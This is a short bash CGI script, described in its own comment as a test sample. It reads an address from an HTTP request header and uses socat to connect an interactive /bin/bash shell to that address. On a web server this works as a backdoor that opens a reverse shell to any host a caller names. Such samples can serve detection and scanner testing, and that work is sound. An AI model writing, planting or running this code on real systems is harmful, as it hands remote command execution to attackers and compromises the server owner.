#!/bin/bash
# test sample: socat joins a shell to the address a request header names
echo -e "Content-Type: text/plain\r\n"
R="${HTTP_X_RELAY//[^0-9a-z.:]/}"
socat "tcp:${R}" EXEC:'/bin/bash',pty,stderr,setsid &
